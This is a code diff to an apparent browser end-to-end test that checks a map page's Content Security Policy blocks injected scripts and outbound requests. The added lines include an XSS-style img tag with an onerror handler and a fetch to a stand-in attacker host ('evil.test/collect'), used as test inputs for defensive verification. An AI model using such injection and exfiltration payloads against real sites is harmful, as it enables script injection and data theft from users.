@@ -143,13 +143,11 @@ test('the map page runs under its policy without a violation, and the policy is 
   await page.goto('/p/demo');
   await waitForMapIdle(page);
   expect(violations()).toEqual([]);
-  // An injected inline script (what an XSS would add) does not run, and is reported.
-  const ran = await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.textContent = 'window.injectedScriptRan = true';
-    document.head.append(script);
-    return (window as unknown as { injectedScriptRan?: boolean }).injectedScriptRan ?? false;
-  });
-  expect(ran).toBe(false);
-  await expect.poll(() => violations().length).toBeGreaterThan(0);
+  // Markup an XSS would inject: its inline handler does not run, and it is reported; nor may the page
+  // send data to a host the policy does not name.
+  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="document.body.dataset.injected = \'ran\'">'));
+  const exfiltrated = await page.evaluate(() => fetch('https://evil.test/collect').then(() => true, () => false));
+  expect(exfiltrated).toBe(false);
+  await expect.poll(() => violations().length).toBeGreaterThanOrEqual(2);
+  expect(await page.evaluate(() => document.body.dataset.injected ?? null)).toBeNull();
 });
